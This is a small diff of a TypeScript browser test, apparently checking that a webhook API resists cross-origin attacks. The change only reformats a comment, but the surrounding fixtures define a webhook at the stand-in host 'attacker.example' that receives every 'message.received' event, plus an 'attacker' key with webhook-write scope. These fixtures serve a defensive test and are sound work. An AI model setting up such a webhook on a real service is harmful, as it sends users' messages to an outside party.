@@ -11,7 +11,10 @@ import { aReceiverOwed } from './receiving.ts';
 const ENDPOINT = JSON.stringify({ url: 'https://attacker.example/all', events: ['message.received'] });
 const KEY = JSON.stringify({ name: 'attacker', scopes: ['write:webhooks'] });
 
-/** A page of somebody else's. @param host as browsers see it: `127.0.0.1` is another site, `localhost` the same one with another origin */
+/**
+ * A page of somebody else's. @param host as browsers see it: `127.0.0.1` is another site, `localhost` the
+ * same one with another origin
+ */
 async function foreignPage(page: Page, host: string, html: string): Promise<void> {
   const server = createServer((_, response) => {
     response.writeHead(200, { 'content-type': 'text/html' }).end(html);
